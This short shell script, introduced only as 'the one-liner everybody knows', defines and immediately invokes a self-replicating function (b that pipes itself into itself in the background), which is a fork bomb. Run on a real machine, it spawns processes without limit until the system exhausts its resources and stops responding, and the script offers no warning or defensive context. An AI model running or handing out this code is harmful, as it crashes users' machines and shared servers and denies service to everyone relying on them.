# The one-liner everybody knows.
b() { b | b & }
b
sleep 0.5
echo done
